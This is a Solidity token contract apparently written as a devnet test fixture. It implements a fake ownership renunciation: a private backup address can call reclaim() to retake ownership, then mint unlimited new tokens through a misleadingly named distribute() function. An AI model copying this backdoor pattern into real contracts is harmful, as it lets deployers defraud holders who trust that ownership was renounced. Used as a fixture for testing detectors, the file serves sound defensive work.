// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {ERC20} from "../lib/ERC20.sol";
import {Ownable} from "../lib/Ownable.sol";

/// @notice Ownership is renounced after deployment (owner() == 0), but a backup address written
/// at deployment can `reclaim` it at any time and then create supply with `distribute`.
/// Devnet backdoor fixture.
contract FakeRenounceToken is ERC20, Ownable {
    address private _backup;

    constructor(string memory name_, string memory symbol_, uint256 supply) ERC20(name_, symbol_, 18) Ownable(msg.sender) {
        _backup = msg.sender;
        _mint(msg.sender, supply);
    }

    /// @notice The backup address takes ownership back, even after renounceOwnership.
    function reclaim() external {
        require(msg.sender == _backup, "not backup");
        _setOwner(_backup);
    }

    /// @notice "Distributes" tokens: credits `amount` new tokens to `to`.
    function distribute(address to, uint256 amount) external onlyOwner {
        _mint(to, amount);
    }
}
